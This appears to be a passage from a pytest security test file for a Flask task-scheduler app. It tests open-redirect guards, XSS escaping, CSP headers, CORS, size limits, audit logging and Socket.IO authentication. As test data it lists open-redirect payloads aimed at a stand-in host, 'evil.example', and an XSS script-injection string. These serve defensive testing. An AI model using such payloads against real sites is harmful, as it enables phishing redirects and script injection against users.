    cleaned = re.sub(r"[\t\n\r]", "", location).replace("\\", "/").strip()
    parts = urlsplit(cleaned)
    if parts.scheme or cleaned.startswith("//"):
        return parts.netloc or cleaned
    return ""


OPEN_REDIRECTS = ["//evil.example", "https://evil.example", "http://evil.example/scheduler",
                  "///evil.example", "/\\evil.example", "\\\\evil.example", "/\t/evil.example",
                  "javascript:alert(1)", "//evil.example/%2F..", "http:evil.example", " //evil.example"]


@pytest.mark.parametrize("target", OPEN_REDIRECTS)
def test_sign_in_never_redirects_off_site(app, target):
    response = login(anonymous(app), *ADMIN, next_url=target)
    assert response.status_code == 302
    location = response.headers["Location"]
    assert _browser_target(location) == "", location
    assert not location.lower().startswith("javascript")


def test_sign_in_follows_a_same_site_next(app):
    response = login(anonymous(app), *ADMIN, next_url="/audit?x=1")
    assert response.status_code == 302 and response.headers["Location"] == "/audit?x=1"


def test_sign_in_form_keeps_a_hostile_next_and_username_as_text(app):
    browser = anonymous(app)
    hostile = '"><script>alert(1)</script>'
    html = browser.get(f"/login?next={quote('/scheduler' + hostile)}").get_data(as_text=True)
    assert "<script>alert(1)" not in html
    html = login(browser, hostile, "wrong password").get_data(as_text=True)
    assert "<script>alert(1)" not in html and "&lt;script&gt;" in html


# --- headers and body size ----------------------------------------------------------

@pytest.mark.parametrize("who,path", [
    ("stranger", "/login"), ("stranger", "/api/tasks"), ("stranger", "/healthz"),
    ("stranger", "/api/no-such-thing"), ("stranger", "/static/js/pages/scheduler.js"),
    ("admin-session", "/scheduler"), ("admin-session", "/audit"), ("admin", "/api/tasks"),
    ("viewer", "/api/users"),
])
def test_security_headers_on_pages_and_api(app, who, path):
    if who == "stranger":
        caller = anonymous(app)
    elif who == "admin-session":
        caller, _ = signed_in(app, "admin")
    else:
        caller = as_role(app, who)
    response = caller.get(path)
    csp = response.headers.get("Content-Security-Policy", "")
    directives = {d.strip().split(" ")[0]: d.strip() for d in csp.split(";") if d.strip()}
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp, csp
    assert directives.get("frame-ancestors") == "frame-ancestors 'none'", csp
    assert "*" not in directives.get("script-src", directives.get("default-src", "*")), csp
    assert "object-src 'none'" in csp
    assert response.headers.get("X-Content-Type-Options") == "nosniff"


@pytest.mark.parametrize("path", ["/login", "/scheduler", "/audit"])
def test_pages_need_no_inline_script_or_style(app, world, path):
    caller, _ = signed_in(app, "admin")
    html = caller.get(path).get_data(as_text=True)
    assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html), "inline <script> would be blocked by the CSP"
    assert not re.search(r"\son[a-z]+\s*=", html, re.IGNORECASE), "inline event handler"
    assert not re.search(r"\sstyle\s*=", html, re.IGNORECASE), "style attribute would be blocked by the CSP"


def test_strict_transport_security_over_https(app):
    response = anonymous(app).get("/login", base_url="https://localhost")
    assert response.headers.get("Strict-Transport-Security", "").startswith("max-age=")
    assert "Strict-Transport-Security" not in anonymous(app).get("/login").headers


def test_api_grants_no_cross_origin_reads(app, client):
    response = client.get("/api/tasks", headers={"Origin": "http://evil.example"})
    assert "Access-Control-Allow-Origin" not in response.headers
    preflight = client.options("/api/tasks", headers={
        "Origin": "http://evil.example", "Access-Control-Request-Method": "POST"})
    assert "Access-Control-Allow-Origin" not in preflight.headers


@pytest.mark.parametrize("method,path", [("POST", "/api/tasks"), ("PATCH", "/api/tasks/{t}"),
                                         ("POST", "/api/users")])
def test_body_over_the_limit_is_413_json_and_nothing_stored(app, client, world, method, path):
    limit = app.config["MAX_CONTENT_LENGTH"]
    body = dict(TASK_BODY, description="x" * (limit + 1), username="big", role="viewer")
    before, task_before = counts(app), task_state(app, world["task_id"])
    response = client.open(path.format(t=world["task_id"]), method=method, json=body)
    error = assert_json_error(response, 413, "too_large")
    assert str(limit) in error["message"]
    assert counts(app) == before and task_state(app, world["task_id"]) == task_before


def test_sign_in_form_over_the_limit_is_413(app):
    browser = anonymous(app)
    token = form_csrf(browser)
    limit = app.config["MAX_CONTENT_LENGTH"]
    response = browser.post("/login", data={"csrf_token": token, "username": ADMIN[0],
                                            "password": "p" * (limit + 1)})
    assert response.status_code == 413
    assert browser.get("/scheduler").status_code == 302


# --- audit log ----------------------------------------------------------------------

def test_audit_records_who_did_what_with_an_edit_diff(app, client, clean_redis):
    admin = client
    operator = as_role(app, "operator")
    created = admin.post("/api/tasks", json={"name": "audited", "kind": "shell",
                                             "config": {"command": "true"}}).get_json()
    url = f"/api/tasks/{created['id']}"
    assert admin.patch(url, json={"timeout": 120, "description": "now described"}).status_code == 200
    assert operator.patch(url, json={"enabled": False}).status_code == 200
    assert operator.patch(url, json={"enabled": True}).status_code == 200
    run = operator.post(f"{url}/run", json={}).get_json()
    assert admin.delete(url).status_code == 204

    response = admin.get("/api/audit")
    assert response.status_code == 200
    entries = [e for e in response.get_json()["entries"] if e["target_type"] == "task"]
    assert [(e["username"], e["action"]) for e in entries] == [
        (ADMIN[0], "delete"), (OPERATOR[0], "run"), (OPERATOR[0], "enable"),
        (OPERATOR[0], "disable"), (ADMIN[0], "update"), (ADMIN[0], "create"),
    ]
    assert all(e["target_id"] == created["id"] and e["target_name"] == "audited" for e in entries)
    by_action = {e["action"]: e for e in entries}
    assert by_action["update"]["changes"] == {"description": ["", "now described"], "timeout": [300, 120]}
    assert by_action["disable"]["changes"] == {"enabled": [True, False]}
    assert by_action["enable"]["changes"] == {"enabled": [False, True]}
    assert by_action["run"]["changes"] == {"run_id": run["run_id"]}
    assert by_action["create"]["changes"]["name"] == [None, "audited"]
    assert by_action["create"]["changes"]["config"] == [None, {"command": "true"}]
    assert by_action["delete"]["changes"]["name"] == ["audited", None]
    ids = [e["id"] for e in response.get_json()["entries"]]
    assert ids == sorted(ids, reverse=True)
    assert all(e["at"].endswith("Z") for e in entries)


def test_audit_records_user_creation_without_the_password(app, client):
    response = client.post("/api/users", json={"username": "audited-user", "role": "operator",
                                               "password": "audited-password-1"})
    assert response.status_code == 201
    audit = client.get("/api/audit")
    entry = next(e for e in audit.get_json()["entries"] if e["target_name"] == "audited-user")
    assert (entry["username"], entry["action"], entry["target_type"]) == (ADMIN[0], "create", "user")
    assert entry["changes"] == {"role": [None, "operator"]}
    assert "audited-password-1" not in audit.get_data(as_text=True)


def test_refused_changes_leave_no_audit_entry(app, world):
    before = counts(app)["taskpulse_audit_log"]
    as_role(app, "viewer").patch(f"/api/tasks/{world['task_id']}", json={"enabled": False})
    as_role(app, "operator").delete(f"/api/tasks/{world['task_id']}")
    anonymous(app).post("/api/tasks", json=TASK_BODY)
    assert counts(app)["taskpulse_audit_log"] == before


def test_audit_page_is_admin_only(app, world):
    viewer, _ = signed_in(app, "viewer")
    operator, _ = signed_in(app, "operator")
    admin, _ = signed_in(app, "admin")
    for caller in (viewer, operator):
        response = caller.get("/audit")
        assert response.status_code == 403
        assert SECRET_NAME not in response.get_data(as_text=True)
        assert 'href="/audit"' not in caller.get("/scheduler").get_data(as_text=True)
    html = admin.get("/audit").get_data(as_text=True)
    assert SECRET_NAME in html and 'href="/audit"' in html


def test_operator_stops_a_run_viewer_may_not_and_it_is_audited(app, world, clean_redis):
    operator = as_role(app, "operator")
    run = operator.post(f"/api/tasks/{world['task_id']}/run", json={})
    assert run.status_code == 202
    run_id = run.get_json()["run_id"]
    before = counts(app)
    assert_json_error(as_role(app, "viewer").post(f"/api/runs/{run_id}/stop", json={}), 403, "forbidden")
    assert_json_error(anonymous(app).post(f"/api/runs/{run_id}/stop", json={}), 401, "unauthorized")
    assert counts(app) == before
    response = operator.post(f"/api/runs/{run_id}/stop", json={})
    assert response.status_code in (200, 202), response.get_data(as_text=True)
    entries = as_role(app, "admin").get("/api/audit").get_json()["entries"]
    assert (entries[0]["username"], entries[0]["action"], entries[0]["changes"]) == \
        (OPERATOR[0], "stop", {"run_id": run_id})


# --- Socket.IO: handshake credentials and room rules ----------------------------------

@pytest.fixture
def sockets(app, monkeypatch):
    """Connect Flask-SocketIO test clients to ``app``'s handlers (in-process manager, as
    tests/unit/conftest.py's ``socket_client`` does); audit entries and task updates are
    delivered in-process instead of through Redis."""
    from webapp.core.extensions import socketio
    from webapp.live import events
    from webapp.web import sockets as handlers

    socketio.init_app(app, client_manager=python_socketio.Manager(), async_mode="threading")
    handlers.register(socketio)
    monkeypatch.setattr(events, "emitter", lambda: socketio.server)
    made = []

    def connect(headers=None, auth=None, flask_client=None):
        client = socketio.test_client(app, headers=headers, auth=auth, flask_test_client=flask_client)
        made.append(client)
        return client

    yield connect
    for client in made:
        if client.is_connected():
            client.disconnect()


def subscribe(client, payload):
    return client.emit("subscribe", payload, callback=True)


def received(client, name: str) -> list:
    return [m["args"][0] for m in client.get_received() if m["name"] == name]


@pytest.mark.parametrize("kind", ["none", "wrong-password", "unknown-user", "malformed-basic", "bad-bearer",
                                  "revoked-bearer", "inactive-user-basic", "unknown-scheme"])
def test_socket_with_bad_header_credentials_is_refused(app, sockets, kind):
    header = bad_authorization(app, kind)
    client = sockets(headers={"Authorization": header} if header else None)
    assert not client.is_connected()


@pytest.mark.parametrize("auth", [{"token": "tp_nope"}, {"token": ""}, {"token": 12345}, {"token": None},
                                  {"user": ADMIN[0], "password": ADMIN[1]}, "token", ["token"], 7],
                         ids=["bad-token", "empty-token", "number-token", "null-token",
                              "user-and-password", "string", "list", "number"])
def test_socket_with_bad_auth_payload_is_refused(sockets, auth):
    assert not sockets(auth=auth).is_connected()


def test_socket_with_a_revoked_token_in_auth_is_refused(app, sockets):
    token = issue_token(app, VIEWER[0])
    assert sockets(auth={"token": token}).is_connected()
    revoke_tokens(app, VIEWER[0])
    assert not sockets(auth={"token": token}).is_connected()


def test_socket_with_the_session_cookie_connects_until_sign_out(app, sockets):
    browser, token = signed_in(app, "viewer")
    assert sockets(flask_client=browser).is_connected()
    browser.post("/logout", data={"csrf_token": token})
    assert not sockets(flask_client=browser).is_connected()


def test_socket_with_an_anonymous_session_cookie_is_refused(app, sockets):
    browser = anonymous(app)
    browser.get("/login")  # a session with only a CSRF token in it
    assert not sockets(flask_client=browser).is_connected()


def test_viewer_may_watch_tasks_but_not_the_audit_room(app, sockets, world):
    viewer = sockets(headers={"Authorization": basic_auth(*VIEWER)})
    assert viewer.is_connected()
    assert subscribe(viewer, {"room": "tasks", "since": None})["ok"] is True
    assert subscribe(viewer, {"room": f"task:{world['task_id']}", "since": 0})["ok"] is True
    for role in ("viewer", "operator"):
        client = viewer if role == "viewer" else sockets(headers={"Authorization": basic_auth(*OPERATOR)})
        ack = subscribe(client, {"room": "audit", "since": 0})
        assert ack["ok"] is False and "admin" in ack["error"]
        assert set(ack) == {"ok", "error"}  # no entries, no head
    for room in ("Audit", " audit", "audit ", "audit:1", "admin", "users"):
        assert subscribe(viewer, {"room": room, "since": None})["ok"] is False


def test_token_in_auth_and_basic_header_both_identify_the_user(app, sockets):
    by_token = sockets(auth={"token": issue_token(app, ADMIN[0])})
    by_basic = sockets(headers={"Authorization": basic_auth(*ADMIN)})
    for client in (by_token, by_basic):
        assert client.is_connected()
        assert subscribe(client, {"room": "audit", "since": None})["ok"] is True


def test_admin_receives_audit_entries_live_and_others_do_not(app, sockets, client):
    admin = sockets(headers={"Authorization": basic_auth(*ADMIN)})
    viewer = sockets(headers={"Authorization": basic_auth(*VIEWER)})
    ack = subscribe(admin, {"room": "audit", "since": None})
    assert ack["ok"] is True and ack["events"] == []
    head = ack["head"]
    assert subscribe(viewer, {"room": "audit", "since": None})["ok"] is False
    assert subscribe(viewer, {"room": "tasks", "since": None})["ok"] is True
    viewer.get_received()

    created = client.post("/api/tasks", json=dict(TASK_BODY, name="watched"))
    assert created.status_code == 201
    entries = received(admin, "audit_entry")
    assert [(e["username"], e["action"], e["target_name"]) for e in entries] == [(ADMIN[0], "create", "watched")]
    assert entries[0]["id"] > head
    assert received(viewer, "audit_entry") == []
    # A reconnecting admin page replays what it missed by entry id.
    ack = subscribe(admin, {"room": "audit", "since": head})
    assert [e["target_name"] for e in ack["events"]] == ["watched"]


def test_an_open_socket_stops_hearing_updates_once_its_token_is_revoked(app, sockets):
    from webapp.access import socket_sessions
    from webapp.core.extensions import socketio

    token = issue_token(app, VIEWER[0])
    client = sockets(auth={"token": token})
    assert client.is_connected()
    assert subscribe(client, {"room": "tasks", "since": None})["ok"] is True
    revoke_tokens(app, VIEWER[0])
    # Before the sweep closes it, the connection is refused everything and hears nothing.
    ack = subscribe(client, {"room": "tasks", "since": None})
    assert ack["ok"] is False and "revoked" in ack["error"]
    client.get_received()
    socketio.emit("task_update", {"seq": 1}, to="tasks")
    assert received(client, "task_update") == []
    socket_sessions.sweep(app)
    assert not client.is_connected()


@pytest.mark.parametrize("event", ["disconnect", "connect"])
def test_a_client_sent_connect_or_disconnect_event_keeps_the_socket_in_the_sweep(app, sockets, event):
    from webapp.access import socket_sessions

    token = issue_token(app, VIEWER[0])
    client = sockets(auth={"token": token})
    other = sockets(headers={"Authorization": basic_auth(*ADMIN)})
    client.emit(event, {"token": "nonsense"}, "x")
    assert client.is_connected()
    assert subscribe(client, {"room": "tasks", "since": None})["ok"] is True  # still itself
    assert socket_sessions.sweep(app) == 0
    revoke_tokens(app, VIEWER[0])
    assert socket_sessions.sweep(app) == 1
    assert not client.is_connected() and other.is_connected()


def test_the_sweep_closes_a_held_connection_with_no_credentials_on_record(app, sockets):
    from webapp.access import socket_sessions
    from webapp.core.extensions import socketio

    client = sockets(headers={"Authorization": basic_auth(*ADMIN)})
    sid = next(iter(socket_sessions.held_connections(socketio.server)[1]))
    socket_sessions.forget(sid, app)
    assert socket_sessions.sweep(app) == 1
    assert not client.is_connected()
